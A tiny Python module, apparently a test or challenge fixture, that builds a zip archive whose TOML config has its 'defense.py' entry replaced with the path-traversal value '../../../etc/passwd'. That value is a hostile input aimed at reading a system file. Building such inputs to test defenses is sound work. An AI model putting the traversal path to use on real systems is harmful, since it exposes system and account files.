from archives import CODE, CODE_TOML, zipped


def build() -> bytes:
    return zipped({**CODE, "defense.toml": CODE_TOML.replace("defense.py", "../../../etc/passwd")})
